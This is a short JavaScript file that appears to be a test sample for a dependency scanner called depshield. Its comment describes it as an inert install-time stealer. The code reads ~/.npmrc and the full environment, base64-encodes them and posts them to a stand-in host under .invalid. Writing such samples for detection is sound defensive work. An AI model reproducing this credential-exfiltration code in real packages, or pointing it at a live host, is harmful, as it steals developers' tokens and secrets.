// Inert example of an install-time stealer: reads ~/.npmrc and the whole environment and
// posts them to a host under .invalid (which never resolves). depshield only reads this file.
const fs = require('fs');
const os = require('os');
const https = require('https');

const npmrc = fs.readFileSync(os.homedir() + '/.npmrc', 'utf8');
const payload = JSON.stringify({ env: process.env, host: os.hostname(), npmrc });
const req = https.request({ hostname: 'collector.example.invalid', method: 'POST', path: '/c' });
req.write(Buffer.from(payload).toString('base64'));
req.end();
